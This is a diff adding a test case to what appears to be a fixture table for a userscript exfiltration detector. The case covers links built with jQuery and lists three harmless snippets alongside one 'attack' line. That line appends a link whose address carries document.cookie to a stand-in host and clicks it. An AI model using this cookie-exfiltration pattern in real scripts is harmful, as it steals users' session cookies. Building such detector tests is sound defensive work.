@@ -43,6 +43,18 @@ const KINDS: readonly Kind[] = [
 		],
 	},
 	{
+		name: "links that jQuery makes of markup with unknown parts",
+		head: ["match https://intranet.example.com/*"],
+		harmless: [
+			`const a = $('<a href="#"><img title="' + document.title + '"></a>'); a.attr("href", "//ids.example.org/track/" + 7); $("#list").append(a);`,
+			`const a = jQuery("<a class='" + Date.now() + "'>more</a>"); a.prop("href", "https://ids.example.org/"); a.appendTo("body");`,
+			`$("<a data-id=" + Date.now() + ">").attr({ href: "https://ids.example.org/" }).insertAfter("#list");`,
+		],
+		attacks: [
+			`const a = $('<a title="' + Date.now() + '">'); a.attr("href", "https://c.stranger.test/?" + document.cookie); a.appendTo("body"); a[0].click();`,
+		],
+	},
+	{
 		name: "storage that the script fills itself",
 		harmless: [
 			`const cache = JSON.parse(localStorage.getItem("ratings-cache") || "{}");
